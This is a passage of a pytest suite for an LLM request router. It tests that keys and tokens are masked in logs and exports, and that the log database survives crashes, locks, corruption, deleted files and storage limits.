    assert detail["path"].endswith("&a=b")


SECRET_NAMES = (
    "Authorization", "Proxy-Authorization", "X-Api-Key", "Api-Key", "X-Goog-Api-Key", "Cookie",
    "Set-Cookie", "X-SmolRouter-Token", "X-Auth-Token", "X-Auth", "Ocp-Apim-Subscription-Key",
    "CF-Access-Jwt-Assertion", "X-Goog-Iap-Jwt-Assertion", "X-Authentik-Jwt", "X-Amzn-Oidc-Data",
    "X-Amzn-Oidc-Accesstoken", "DPoP", "X-Session-Id", "Mcp-Session-Id", "key", "api_key",
    "api%5Fkey", "access_token", "jwt", "auth", "pass", "code", "password", "X-Amz-Signature",
)  # fmt: skip
HARMLESS_NAMES = ("X-Status-Code", "X-Bypass", "User-Agent", "X-Author", "model", "session_mode")


def test_which_names_are_of_secrets() -> None:
    assert [name for name in SECRET_NAMES if not smolrouter.is_secret_name(name)] == []
    assert [name for name in HARMLESS_NAMES if smolrouter.is_secret_name(name)] == []


@pytest.mark.parametrize("text, hidden", [
    ("/v1/x?key=abc&a=b", "/v1/x?key=***ba7816bf&a=b"),
    ("/v1/x?a=b&code=abc", "/v1/x?a=b&code=***ba7816bf"),
    ("/v1/x?a=b", "/v1/x?a=b"),
    ("https://a/b?c=d&token=abc#jwt=abc", "https://a/b?c=d&token=***ba7816bf#jwt=***ba7816bf"),
    ('<https://a/b?token=abc>; rel="next"', '<https://a/b?token=***ba7816bf>; rel="next"'),
])  # fmt: skip
def test_parameters_that_are_hidden(text: str, hidden: str) -> None:
    assert smolrouter.hide_parameters(text) == hidden


@pytest.mark.parametrize("secret", ["sk-0123456789-abcdef", 'ab/cd+ef==/gh"ij<kl>mn'])
def test_a_secret_is_found_however_it_is_spelled(secret: str) -> None:
    quoted = json.dumps(secret)[1:-1]
    escaped = "".join(c if c.isalnum() or c in "-_" else f"\\u{ord(c):04x}" for c in secret)
    spellings = [secret, quoted, quoted.replace("/", "\\/"), escaped,
                 urllib.parse.quote(secret, "")]  # fmt: skip
    hidden = smolrouter.hide_in_text(" ".join(spellings), smolrouter.spell_secret(secret))
    assert hidden == " ".join([smolrouter.hide_secret(secret)] * len(spellings))


OWN_KEY, PRIVATE = "sk-of-the-routing-file-0123", "sk-of-the-client-0123456789"
ECHOED_KEYS = f"keys {PRIVATE} and {OWN_KEY} and param-0123456789-private"
ECHO_ERROR = {"error": {"message": ECHOED_KEYS}}
GZIP_FIELD = [("Content-Encoding", "gzip")]
ECHOES = {
    "an error": json_response(ECHO_ERROR, 401),
    "a text": whole_response(ECHOED_KEYS.encode(), 500),
    "an answer": json_response(completion({}, ECHOED_KEYS)),
    "an error within": json_response(ECHO_ERROR),
    "an error in gzip": whole_response(
        gzip.compress(encode_json(ECHO_ERROR)), 401, GZIP_FIELD, "application/json"),
    "an answer in gzip": whole_response(
        gzip.compress(encode_json(completion({}, ECHOED_KEYS))), 200, GZIP_FIELD,
        "application/json"),
    "an event": sse_response([*TWO_WORDS, ECHO_ERROR]),
    "events in gzip": stream_response(
        [gzip.compress(encode_event(ECHO_ERROR))], fields=GZIP_FIELD),
    "a field": json_response(completion({}, "ok"), 200, [("X-Said", ECHOED_KEYS)]),
    "a place": json_response({}, 404, [("Location", f"http://a/?c=d&token={PRIVATE}")]),
}  # fmt: skip


@pytest.mark.parametrize("path", [CHAT, "/api/chat", "/v1/other"])
@pytest.mark.parametrize("name", ECHOES)
def test_an_echoed_secret_is_nowhere_but_at_the_client(
    log_folder: LogFolder, name: str, path: str
) -> None:
    """What a server says of keys goes on as it is; nothing that is kept or shown has them."""
    upstream = default_upstream()
    model = upstream.add_script(ECHOES[name])
    servers = {"own": {"url": upstream.url, "api_key": OWN_KEY}}
    routes = {
        "servers": servers,
        "routes": [{"match": {"model": "/./"}, "route": {"upstream": "own"}}],
    }
    stream = "event" in name
    target = f"{path}?code=param-0123456789-private"
    with Router(log_folder.settings, routes) as router:
        fields = [("Authorization", f"Bearer {PRIVATE}")]
        got = request(router.port, "POST", target, chat_document(model, stream=stream), fields)
        assert got.status in (200, 401, 404, 500, 502)
        log_folder.wait_for_rows(1)
        row = get_document(router, "/api/logs")[0]
        paths = [f"/api/request/{row['id']}", f"/request/{row['id']}", "/api/logs", "/api/export"]
        paths += ["/api/export?format=csv", "/api/export?format=openai", "/api/upstreams"]
        shown = b"".join(request(router.port, "GET", path).content for path in paths)
        everything = shown + log_folder.all_bytes() + router.stderr.encode()
        detail = get_document(router, f"/api/request/{row['id']}")
    for secret in (PRIVATE, OWN_KEY, "param-0123456789-private"):
        assert secret.encode() not in everything
    assert detail["response_body_encoding"] == "utf-8"
    if "field" not in name and "place" not in name:
        assert "***" in detail["response_body"]
    if name == "an error":
        assert PRIVATE in got.content.decode()


def test_a_running_request_shows_no_secret() -> None:
    model = default_upstream().add_script([HANG])
    with connect(logging_router().port) as sock:
        sock.sendall(encode_post(f"{CHAT}?jwt=param-private", chat_document(model)))

        def running() -> str:
            documents = get_document(logging_router(), "/api/inflight")
            return "".join(one["path"] for one in documents if one["original_model"] == model)

        assert wait_until(running).startswith(f"{CHAT}?jwt=***")


@pytest.mark.parametrize("cut_at", range(1, 60, 7))
def test_no_beginning_of_a_secret_is_kept_at_a_cut(cut_at: int) -> None:
    secrets = smolrouter.spell_secret(PRIVATE)
    content = f"wrong key: {PRIVATE}, really".encode()[:cut_at]
    hidden = smolrouter.hide_cut_secret(smolrouter.hide_secrets(content, secrets), secrets)
    assert PRIVATE[:10].encode() not in hidden


def test_long_bodies_are_files_that_requests_share(log_folder: LogFolder) -> None:
    text = "long " * 10_000
    model = default_upstream().add_script(json_response(completion({}, text)))
    with log_folder.router(MAX_LOG_AGE_DAYS=1) as router:
        for _ in range(3):
            post_chat(router, model, text)
        post_chat(router, "tiny", "short")
        log_folder.wait_for_rows(4)
        detail = wait_for_detail(router, model)
        assert json.loads(detail["response_body"])["choices"][0]["message"]["content"] == text
        assert json.loads(detail["request_body"])["messages"][0]["content"] == text
    files = sorted(f.stem for f in log_folder.blobs.rglob("*.z"))
    rows = log_folder.select("SELECT digest, uses FROM blobs ORDER BY digest")
    assert rows == [(name, 3) for name in files] and len(files) == 2
    ((stored,),) = log_folder.select("SELECT bytes FROM storage")
    inline = log_folder.select("SELECT sum(length(data)) FROM details")[0][0]
    assert stored == inline + sum(f.stat().st_size for f in log_folder.blobs.rglob("*.z"))
    # Make all requests but the newest one a day and an hour older.
    age = 25 * 3_600_000
    older = f"id = id - {age * 1024}"
    with contextlib.closing(sqlite3.connect(log_folder.file)) as db:
        newest = db.execute(
            "SELECT max(id) FROM requests WHERE sent_model = ?", (model,)
        ).fetchone()
        db.execute(f"UPDATE details SET {older} WHERE id <> ?", newest)
        db.execute(
            f"UPDATE requests SET {older}, timestamp = timestamp - {age} WHERE id <> ?", newest
        )
        db.execute("UPDATE rollups SET hour = hour - 25")
        db.commit()
    with log_folder.router(MAX_LOG_AGE_DAYS=1) as router:
        wait_until(lambda: len(log_folder.select("SELECT id FROM requests")) == 1)
        assert len(get_document(router, "/api/logs")) == 1
        assert get_document(router, "/api/stats")["total_requests"] == 0
        assert log_folder.select("SELECT uses FROM blobs") == [(1,), (1,)]
        assert len(wait_for_detail(router, model)["response_body"]) > 40_000
    with contextlib.closing(sqlite3.connect(log_folder.file)) as db:
        db.execute(f"UPDATE details SET {older}")
        db.execute(f"UPDATE requests SET {older}, timestamp = timestamp - {age}")
        db.commit()
    with log_folder.router(MAX_LOG_AGE_DAYS=1):
        wait_until(lambda: not log_folder.select("SELECT id FROM requests"))
        wait_until(lambda: not list(log_folder.blobs.rglob("*.z")))
    assert log_folder.select("SELECT bytes FROM storage") == [(0,)]
    assert list(log_folder.blobs.rglob("*.z")) == []


def test_bodies_in_memory(log_folder: LogFolder) -> None:
    with log_folder.router(BLOB_STORAGE_TYPE="memory") as router:
        post_chat(router, "tiny", "long " * 10_000)
        assert "long long" in wait_for_detail(router, "tiny")["request_body"]
        assert not log_folder.blobs.exists()
    with log_folder.router(BLOB_STORAGE_TYPE="memory") as router:
        assert wait_for_detail(router, "tiny")["request_body"] is None


@pytest.mark.parametrize("limit", [0, 100, 20_000])
def test_a_body_over_the_limit_is_cut(log_folder: LogFolder, limit: int) -> None:
    text = "".join(map(str, range(9000)))
    model = default_upstream().add_script(json_response(completion({}, text)))
    with log_folder.router(MAX_BLOB_SIZE=limit) as router:
        whole = post_chat(router, model, text).content
        detail = wait_for_detail(router, model)
        assert detail["request_body_cut"] and detail["response_body_cut"]
        assert (detail["response_body"] or "") == whole.decode()[:limit]
        assert len(detail["request_body"] or "") == limit
        assert (detail["prompt_tokens"], detail["completion_tokens"]) == (7, 1)


def test_the_oldest_bodies_make_room(log_folder: LogFolder) -> None:
    limit = 60_000
    noise = [os.urandom(15_000).hex() for _ in range(8)]
    with log_folder.router(MAX_TOTAL_STORAGE_SIZE=limit) as router:
        for number, text in enumerate(noise):
            post_chat(router, f"noise-{number}", text)
            log_folder.wait_for_rows(number + 1)
            files = sum(f.stat().st_size for f in log_folder.blobs.rglob("*.z"))
            assert (
                files + log_folder.select("SELECT total(length(data)) FROM details")[0][0] <= limit
            )
        assert noise[7] in wait_for_detail(router, "noise-7")["request_body"]
        assert wait_for_detail(router, "noise-0")["request_body"] is None
        # The bodies have gone, the rows stay.
        assert len(get_document(router, "/api/logs")) == 8


def test_space_is_given_back(log_folder: LogFolder) -> None:
    store = make_store(log_folder.file.parent)
    records = [make_record(number, days=8) for number in range(1500)]
    store.write([], records, {})
    store.open().execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall()
    size = log_folder.file.stat().st_size
    steps = 1
    while store.prune(time.time()):
        steps += 1
    store.open().execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall()
    store.close()
    assert steps > 3 and log_folder.file.stat().st_size < size / 10
    assert log_folder.select("SELECT count(*) FROM requests")[0][0] == 0


def test_each_step_gives_many_pages_back_and_not_all(tmp_path: pathlib.Path) -> None:
    """Python 3.11 frees one page where the statement is not stepped to its end."""
    with contextlib.closing(make_store(tmp_path)) as store:
        db = store.open()
        db.execute("CREATE TABLE filler (data)")
        rows = ((bytes(3500),) for _ in range(2 * smolrouter.VACUUMED_PAGES + 100))
        db.executemany("INSERT INTO filler VALUES (?)", rows)
        db.execute("DROP TABLE filler")

        def count_free_pages() -> int:
            return db.execute("PRAGMA freelist_count").fetchone()[0]

        free_pages = [count_free_pages()]
        while store.prune(time.time()):
            free_pages.append(count_free_pages())
        freed = [before - after for before, after in itertools.pairwise(free_pages)]
        assert freed[:2] == [smolrouter.VACUUMED_PAGES] * 2
        assert len(freed) == 3 and free_pages[-1] == 0


def test_pages_that_cannot_be_given_back_do_not_keep_the_log_busy(tmp_path: pathlib.Path) -> None:
    with contextlib.closing(make_store(tmp_path)) as store:
        db = store.open()
        db.executescript(
            "PRAGMA journal_mode = DELETE; PRAGMA auto_vacuum = NONE; VACUUM;"
            "CREATE TABLE filler (data); INSERT INTO filler VALUES (zeroblob(90000));"
            "DROP TABLE filler"
        )
        assert db.execute("PRAGMA freelist_count").fetchone()[0] > 10
        assert not store.prune(time.time())


def test_nobody_else_can_read_what_is_kept() -> None:
    shell = ("/bin/sh", "-c", 'umask 022; exec "$0" "$@"', sys.executable)
    with Router({"DEFAULT_UPSTREAM": default_upstream().url}, python=shell) as router:
        assert post_chat(router, "tiny", "a" * 100_000).status == 200
        stored = [router.folder / "requests.db", router.folder / "blob_storage"]
        assert wait_until(lambda: all(path.exists() for path in stored))
        assert wait_until(lambda: [p for p in stored[1].rglob("*") if p.is_file()])
        for path in router.folder.rglob("*"):
            assert not path.stat().st_mode & 0o077, path


# --- faults ---------------------------------------------------------------------------


def log_state(router: Router) -> dict[str, Any]:
    """Return what /healthz says about the log."""
    return get_document(router, "/healthz")["log"]


def test_stateless_means_nothing_on_disk(tmp_path: pathlib.Path) -> None:
    with Router({"DEFAULT_UPSTREAM": default_upstream().url, "ENABLE_LOGGING": "false"}) as router:
        post_chat(router, "tiny", "x" * 30_000)
        post_chat(router, "tiny", stream=True)
        for path in ("/performance", "/request/1", "/api/logs", "/api/stats", "/api/inflight",
                     "/api/performance", "/api/request/1", "/api/events", "/api/export",
                     "/api/upstreams", "/api/routes"):  # fmt: skip
            got = request(router.port, "GET", path)
            assert got.status == 404 and b"ENABLE_LOGGING" in got.content, path
        assert log_state(router) == {
            "enabled": False,
            "error": None,
            "notice": None,
            "backlog": 0,
            "lost": 0,
        }
        counted = re.compile(
            rb'smolrouter_completion_tokens_total\{service="openai",'
            rb'model="tiny",upstream="[^"]*"\} 6\n'
        )
        assert wait_until(lambda: counted.search(request(router.port, "GET", "/metrics").content))
        assert list(router.folder.iterdir()) == []


def test_shutdown_finishes_rows(log_folder: LogFolder) -> None:
    slow = default_upstream().add_script(
        stream_response([encode_event(text_delta("a ")), HANG], whole=False)
    )
    with log_folder.router(SHUTDOWN_GRACE=0.2) as router, connect(router.port) as sock:
        body = encode_json(chat_document(slow, stream=True))
        sock.sendall(encode_request("POST", "/v1/chat/completions", body=body))
        wait_until(lambda: b"a " in sock.recv(4096))
        post_chat(router, "tiny")
        router.stop()
    assert {f.name for f in log_folder.file.parent.glob("log.db*")} == {"log.db", "log.db-lock"}
    assert log_folder.file.with_name("log.db-lock").stat().st_mode & 0o777 == 0o600
    rows = dict(log_folder.select("SELECT sent_model, status_code FROM requests"))
    assert rows == {slow: 503, "tiny": 200}


KILLS = int(os.environ.get("SMOLROUTER_TEST_KILLS", "3"))


def finished_rows(log_folder: LogFolder) -> set[str]:
    """Return the ids of the requests that the log calls finished."""
    with contextlib.suppress(sqlite3.Error):
        return {
            name
            for (name,) in log_folder.select("SELECT request_id FROM requests WHERE failed = 0")
        }
    return set()


def test_killed_at_any_moment_nothing_is_lost(log_folder: LogFolder) -> None:
    """Under load: no corrupt file, no finished row lost, none left open."""
    hanging = default_upstream().add_script([HANG])
    finished: set[str] = set()
    for number in range(KILLS):
        router = log_folder.router(LOG_LEVEL="ERROR")
        ended: list[str] = []
        stop = threading.Event()

        def client(router: Router = router, ended: Any = ended, stop: Any = stop) -> None:
            with contextlib.suppress(OSError, http.client.HTTPException):
                while not stop.wait(0.01):
                    got = post_chat(router, "tiny", "x" * 20_000, stream=len(ended) % 2 == 0)
                    ended.append(got.get("X-SmolRouter-Request-Id"))

        clients = [threading.Thread(target=client) for _ in range(2)]
        with connect(router.port) as sock:
            body = encode_json(chat_document(hanging))
            sock.sendall(encode_request("POST", "/v1/chat/completions", body=body))
            for thread in clients:
                thread.start()
            time.sleep(0.7)
            # More requests follow while these are written.
            safe = set(ended)
            assert wait_until(lambda safe=safe: safe <= finished_rows(log_folder))
            time.sleep(number % 5 * 0.03)
            router.process.kill()
            stop.set()
        for thread in clients:
            thread.join(PATIENCE)
        router.kill()
        finished |= safe
    with log_folder.router():
        wait_until(lambda: not log_folder.select("SELECT id FROM requests WHERE failed IS NULL"))
    assert log_folder.select("PRAGMA integrity_check") == [("ok",)]
    rows = log_folder.select("SELECT request_id, failed, status_code, error_message FROM requests")
    assert finished and finished <= {name for name, failed, _, _ in rows if failed == 0}
    assert not [row for row in rows if row[1] is None]
    assert ("interrupted", 1, None) in {(why, failed, status) for _, failed, status, why in rows}
    ((counted,),) = log_folder.select("SELECT sum(requests) FROM rollups")
    assert counted == len(rows)


def test_a_row_is_finished_only_with_all_that_belongs_to_it(log_folder: LogFolder) -> None:
    """One that ends while rows of running requests are made is written whole, a little later."""
    record = new_record(1, finished_at=time.monotonic())
    row = smolrouter.make_row(record, smolrouter.Detail(), finished=False)
    assert (row.failed, row.duration_ms, row.completed_at) == (None, None, None)
    models = [default_upstream().add_script([HANG]) for _ in range(4)]
    models.append(default_upstream().add_script([0.3, *json_response({"choices": []})]))
    finished = "SELECT details.id FROM requests LEFT JOIN details USING (id) WHERE failed = 0"

    def look() -> Any:
        with contextlib.suppress(sqlite3.Error):
            return log_folder.select(finished)

    with log_folder.router() as router, contextlib.ExitStack() as stack:
        # The last one is still running when the rows of the others are begun.
        for model in models:
            sock = stack.enter_context(connect(router.port))
            body = encode_json(chat_document(model))
            sock.sendall(encode_request("POST", "/v1/chat/completions", body=body))
        seen = wait_until(look)
        assert seen and seen[0][0] is not None
        assert wait_until(
            lambda: len(log_folder.select("SELECT id FROM requests WHERE failed IS NULL")) == 4
        )


def test_a_row_of_a_crash_is_interrupted(log_folder: LogFolder) -> None:
    with log_folder.router() as router, connect(router.port) as sock:
        body = encode_json(chat_document(default_upstream().add_script([HANG])))
        sock.sendall(encode_request("POST", "/v1/chat/completions", body=body))

        def begun() -> Any:
            # The table may not be there yet.
            with contextlib.suppress(sqlite3.Error):
                return log_folder.select("SELECT id FROM requests")

        assert wait_until(begun)
        # A second router leaves the row of the first one alone.
        with log_folder.router() as other:
            post_chat(other, "tiny")
            log_folder.wait_for_rows(1)
            assert len(log_folder.select("SELECT id FROM requests WHERE failed IS NULL")) == 1
        router.process.kill()
        router.process.wait()
        with log_folder.router() as again:
            rows = wait_until(lambda: get_document(again, "/api/logs?status=error"))
            assert (rows[0]["error_message"], rows[0]["status_code"]) == ("interrupted", None)
            assert not rows[0]["is_inflight"] and rows[0]["completed_at"] is None


def test_rows_of_a_dead_router_end_while_another_lives(log_folder: LogFolder) -> None:
    often = {"interrupted_interval": 0.1, "log_check_interval": 0.1}
    with running_log(log_folder, **often) as log, log_folder.router() as router:
        model = default_upstream().add_script([HANG])
        heard: collections.deque[Any] = collections.deque()
        log.row_queues.append(heard)
        own = new_record(1, requested_model="own")
        log.begin(own)
        with connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, chat_document(model)))
            running = "SELECT original_model FROM requests WHERE failed IS NULL ORDER BY 1"
            assert wait_until(lambda: len(log_folder.select(running)) == 2)
            # As long as it lives, its rows do.
            time.sleep(0.5)
            assert log_folder.select(running) == [("own",), (model,)]
            router.kill()
        assert wait_until(lambda: heard)
        assert [(row.original_model, row.failed) for row in heard] == [(model, 1)]
        assert log_folder.select(running) == [("own",)]
        log.finish(own)
        assert log_folder.wait_for_rows(2) == 2
    sums = log_folder.select("SELECT model, requests, errors FROM rollups ORDER BY errors")
    assert sums == [("m", 1, 0), (model, 1, 1)]


def test_a_row_whose_end_was_lost_does_not_run_for_ever(log_folder: LogFolder) -> None:
    with running_log(log_folder, interrupted_interval=0.1, log_check_interval=0.1) as log:
        record = new_record(1)
        log.begin(record)
        assert wait_until(lambda: record.has_unfinished_row)
        del log.running[record.id]
        assert log_folder.wait_for_rows(1) == 1
    assert log_folder.select("SELECT error_message FROM requests") == [("interrupted",)]


def test_what_a_crash_has_interrupted_is_counted(log_folder: LogFolder) -> None:
    store = make_store(log_folder.file.parent)
    rows = [make_row(number, **UNFINISHED) for number in (5, 6)]
    ended = make_row(7)
    store.write(rows, [], {})
    store.write([ended], [], smolrouter.sum_rows([ended]))
    store.close()
    with log_folder.router() as router:
        assert log_folder.wait_for_rows(3) == 3
        stats = get_document(router, "/api/stats")
        assert (stats["total_requests"], stats["error_rate"]) == (3, pytest.approx(2 / 3))
        doc = get_document(router, "/api/performance")
        assert (doc["models"][0]["requests"], doc["models"][0]["errors"]) == (3, 2)
        assert len(doc["data_points"]) == 3


def test_an_older_database_counts_what_was_interrupted(log_folder: LogFolder) -> None:
    """Its first version had such rows, and did not have them in its sums."""
    interrupted = {**UNFINISHED, "failed": 1, "error_message": "interrupted"}
    rows = [
        make_row(0),
        make_row(1, **interrupted),
        make_row(2, 1, **interrupted, sent_model=""),
        make_row(3, failed=1, status_code=502, error_message="interrupted"),
    ]
    with contextlib.closing(sqlite3.connect(log_folder.file, isolation_level=None)) as db:
        db.executescript(f"{smolrouter.MIGRATIONS[0]}; PRAGMA user_version = 1")
        db.execute(f"PRAGMA application_id = {smolrouter.APPLICATION_ID}")
        db.executemany(smolrouter.INSERT_REQUEST, rows)
        tallies = smolrouter.sum_rows([rows[0], rows[3]])
        values = [(*key, *tally) for key, tally in tallies.items()]
        db.executemany(smolrouter.ADD_ROLLUP, values)
    for _ in range(2):
        store = make_store(log_folder.file.parent)
        store.open()
        store.close()
        found = log_folder.select("SELECT * FROM rollups ORDER BY hour")
        keys = {tuple(row[:4]): list(row[4:]) for row in found}
        assert keys == smolrouter.sum_rows(rows)


def test_new_rows_stand_above_those_of_a_clock_that_was_ahead(log_folder: LogFolder) -> None:
    store = make_store(log_folder.file.parent)
    ahead = [make_row(number, -2.0) for number in range(70)]
    store.write(ahead, [], {})
    store.close()
    with log_folder.router() as one, log_folder.router() as two:
        sent = []
        for number in range(6):
            model = f"right-{number}"
            post_chat((one, two)[number % 2], model)
            assert log_folder.wait_for_rows(len(ahead) + number + 1) == len(ahead) + number + 1
            sent.append(model)
        page = get_document(two, "/api/logs?limit=10")
        assert [row["original_model"] for row in page][:6] == sent[::-1]
        older = get_document(one, f"/api/logs?limit=10&before={page[5]['id']}")
        assert [row["id"] for row in older] == [row.id for row in ahead[:-11:-1]]


def test_a_database_that_is_locked_at_the_start_delays_no_number(log_folder: LogFolder) -> None:
    """Rows of a number that nobody has claimed count as interrupted for another router."""
    make_store(log_folder.file.parent).open().close()
    with contextlib.closing(sqlite3.connect(log_folder.file, isolation_level=None)) as other:
        other.execute("PRAGMA locking_mode = EXCLUSIVE")
        other.execute("BEGIN EXCLUSIVE")
        limits = {"database_lock_timeout": 0.05, "retry_interval": 0.05}
        with running_log(log_folder, **limits) as log:
            assert wait_until(lambda: "locked" in log.error)
            locked = log.store.lock_file
            assert locked is not None and pathlib.Path(f"{log_folder.file}-lock").samefile(
                f"/dev/fd/{locked}"
            )
            other.execute("ROLLBACK")
            other.close()
            log_requests(log, 1)
            assert log_folder.wait_for_rows(1) == 1
            assert log.store.lock_file == locked


def test_two_routers_share_a_log(log_folder: LogFolder) -> None:
    with log_folder.router() as one, log_folder.router() as two:

        def client(router: Router) -> None:
            for _ in range(30):
                post_chat(router, "tiny", "y" * 20_000)

        threads = [threading.Thread(target=client, args=(r,)) for r in (one, two, one, two)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(PATIENCE * 3)
        assert log_folder.wait_for_rows(120) == 120
        assert get_document(one, "/api/stats")["total_requests"] == 120
        assert len({row["id"] for row in get_document(two, "/api/logs?limit=1000")}) == 120
    assert {uses for (uses,) in log_folder.select("SELECT uses FROM blobs")} == {120}


@contextlib.contextmanager
def five_while_locked(log_folder: LogFolder, router: Router) -> Iterator[None]:
    """Send a request, then five while another program locks the database; wait for all rows."""
    post_chat(router, "before")
    log_folder.wait_for_rows(1)
    with contextlib.closing(sqlite3.connect(log_folder.file, isolation_level=None)) as db:
        db.execute("BEGIN IMMEDIATE")
        for _ in range(5):
            assert post_chat(router, "during").status == 200
        assert wait_until(lambda: log_state(router)["error"])
        yield
        db.execute("ROLLBACK")
    assert log_folder.wait_for_rows(6) == 6


def test_a_locked_database_delays_rows_only(log_folder: LogFolder) -> None:
    with log_folder.router() as router:
        with five_while_locked(log_folder, router):
            assert "locked" in log_state(router)["error"] and "locked" in router.stderr
            assert wait_until(lambda: log_state(router)["backlog"] >= 5)
            assert get_document(router, "/api/stats")["log"]["error"]
            # Readers are not locked out.
            assert len(get_document(router, "/api/logs")) == 1
        assert wait_until(lambda: log_state(router)["error"] is None)
        assert log_state(router)["backlog"] == 0
        assert wait_until(lambda: "works again" in router.stderr)


@pytest.mark.parametrize("content", [b"this is no database\n" * 500, b"\0" * 5000])
def test_a_file_that_is_no_database_is_moved_aside(log_folder: LogFolder, content: bytes) -> None:
    log_folder.file.write_bytes(content)
    with log_folder.router() as router:
        assert post_chat(router, "tiny").status == 200
        assert log_folder.wait_for_rows(1) == 1
        assert wait_until(lambda: log_state(router)["error"] is None)
        assert "corrupt" in log_state(router)["notice"]
    (aside,) = log_folder.file.parent.glob("log.db.corrupt-*")
    assert aside.read_bytes() == content


def test_another_program_s_database_is_left_alone(log_folder: LogFolder) -> None:
    with contextlib.closing(sqlite3.connect(log_folder.file)) as db:
        db.execute("CREATE TABLE requests (precious)")
        db.commit()
    before = log_folder.file.read_bytes()
    with log_folder.router() as router:
        assert post_chat(router, "tiny").status == 200
        assert wait_until(lambda: "another program" in (log_state(router)["error"] or ""))
        assert request(router.port, "GET", "/api/logs").status == 503
    assert log_folder.file.read_bytes() == before


def test_what_needs_no_log_answers_without_it(log_folder: LogFolder) -> None:
    """Servers, what runs, the table and its error: another program's database hides none."""
    with contextlib.closing(sqlite3.connect(log_folder.file)) as db:
        db.execute("CREATE TABLE precious (a)")
        db.commit()
    model = default_upstream().add_script([HANG])
    with log_folder.router() as router, connect(router.port) as sock:
        assert wait_until(lambda: log_state(router)["error"])
        post_chat(router, "tiny", "waits for the log")
        sock.sendall(encode_post(CHAT, chat_document(model)))
        (server,) = get_document(router, "/api/upstreams")
        assert (server["url"], server["requests"]) == (default_upstream().url, None)
        assert get_document(router, "/api/routes")["error"] is None
        (running,) = wait_until(lambda: get_document(router, "/api/inflight"))
        detail = get_document(router, f"/api/request/{running['id']}")
        assert (detail["original_model"], detail["phase"]) == (model, "waiting")
        for path in ("/api/logs", "/api/stats", "/api/request/1"):
            assert request(router.port, "GET", path).status == 503


def test_a_newer_database_is_left_alone(log_folder: LogFolder) -> None:
    make_store(log_folder.file.parent).open().close()
    with contextlib.closing(sqlite3.connect(log_folder.file)) as db:
        db.execute("PRAGMA user_version = 99")
    with log_folder.router() as router:
        assert post_chat(router, "tiny").status == 200
        assert wait_until(lambda: "newer SmolRouter" in (log_state(router)["error"] or ""))
    assert log_folder.select("SELECT count(*) FROM requests") == [(0,)]


def test_a_deleted_database_is_made_again(log_folder: LogFolder) -> None:
    with log_folder.router() as router:
        post_chat(router, "one", "x" * 20_000)
        log_folder.wait_for_rows(1)
        for file in log_folder.file.parent.glob("log.db*"):
            file.unlink()
        shutil.rmtree(log_folder.blobs)
        assert post_chat(router, "two", "y" * 20_000).status == 200
        assert log_folder.wait_for_rows(1) == 1
        assert "yyy" in wait_for_detail(router, "two")["request_body"]
        assert log_state(router)["error"] is None


@pytest.mark.parametrize("is_checkpointed", [False, True])
@pytest.mark.parametrize("emptied, removed", [
    (True, []), (False, ["-wal"]), (False, ["-wal", "-shm"]), (False, ["-shm"]), (True, ["-wal"]),
])  # fmt: skip
def test_no_row_goes_into_a_file_without_a_name(
    log_folder: LogFolder, emptied: bool, removed: list[str], is_checkpointed: bool
) -> None:
    """A database that is emptied, or loses its other files, while the router runs."""
    with log_folder.router() as router:
        post_chat(router, "one")
        assert log_folder.wait_for_rows(1) == 1
        if is_checkpointed:
            with contextlib.closing(sqlite3.connect(log_folder.file)) as db:
                assert db.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall() == [(0, 0, 0)]
        if emptied:
            os.truncate(log_folder.file, 0)
        for suffix in removed:
            os.unlink(f"{log_folder.file}{suffix}")
        assert post_chat(router, "two").status == 200
        wanted = {"two"} if emptied and is_checkpointed else {"one", "two"}
        # When both are gone, it depends on the moment whether the first row can be saved.
        allowed = [wanted, {"two"}] if emptied and removed else [wanted]

        def models() -> Any:
            with contextlib.suppress(sqlite3.Error):
                found = log_folder.select("SELECT sent_model FROM requests WHERE failed = 0")
                return {model for (model,) in found}

        assert wait_until(lambda: models() in allowed), models()
        assert log_state(router)["error"] is None
        router.process.kill()
        router.process.wait()
        assert models() in allowed
        assert log_folder.select("PRAGMA integrity_check") == [("ok",)]


def test_a_removed_file_is_noticed_while_nothing_is_written(log_folder: LogFolder) -> None:
    with running_log(log_folder, log_check_interval=0.05) as log:
        log_requests(log, 1)
        assert log_folder.wait_for_rows(1) == 1
        wal = log_folder.file.with_name("log.db-wal")
        wal.unlink()
        assert wait_until(wal.exists)
        assert log_folder.select("SELECT count(*) FROM requests") == [(1,)]


def test_an_overwritten_database_is_replaced(log_folder: LogFolder) -> None:
    with log_folder.router() as router:
        for _ in range(3):
            post_chat(router, "one")
        log_folder.wait_for_rows(3)
        for file in (log_folder.file, log_folder.file.with_name("log.db-wal")):
            with open(file, "r+b") as raw:
                raw.write(os.urandom(max(file.stat().st_size, 8192)))
        with contextlib.suppress(AssertionError):
            # Whoever looks first notices the damage.
            get_document(router, "/api/logs")

        def again() -> Any:
            post_chat(router, "two")
            got = request(router.port, "GET", "/api/logs?model=two")
            return got.status == 200 and json.loads(got.content)

        assert wait_until(again, 20)
        assert wait_until(lambda: log_state(router)["error"] is None)


def test_a_folder_that_cannot_be_written(tmp_path: pathlib.Path) -> None:
    log_folder = LogFolder(tmp_path / "missing")
    with log_folder.router() as router:
        assert post_chat(router, "tiny").status == 200
        words = f"{log_folder.file}: unable to open"
        assert wait_until(lambda: words in (log_state(router)["error"] or ""))
        assert wait_until(lambda: f"log: {words}" in router.stderr)
        assert request(router.port, "GET", "/api/logs").status == 503
        log_folder.file.parent.mkdir()
        assert log_folder.wait_for_rows(1) == 1
        assert get_document(router, "/api/logs")[0]["original_model"] == "tiny"


def test_long_bodies_that_cannot_be_written_name_their_folder(log_folder: LogFolder) -> None:
    log_folder.blobs.write_text("no folder")
    with log_folder.router() as router:
        for text in ("one ", "two "):
            post_chat(router, "tiny", os.urandom(20_000).hex() + text)
        assert wait_until(
            lambda: (log_state(router)["error"] or "").startswith(f"{log_folder.blobs}: ")
        )
        assert wait_until(lambda: log_state(router)["backlog"] == 2)
        log_folder.blobs.unlink()
        assert log_folder.wait_for_rows(2) == 2
        assert wait_until(lambda: "log: works again" in router.stderr)
        # It is said once, whichever file was the first.
        assert router.stderr.count(f"log: {log_folder.blobs}: ") == 1


def test_a_full_disk_stops_nothing(log_folder: LogFolder) -> None:
    """The files of the router may not grow beyond 300 kB."""
    limit = (
        "import resource, runpy, sys; "
        "resource.setrlimit(resource.RLIMIT_FSIZE, (300_000, 300_000)); "
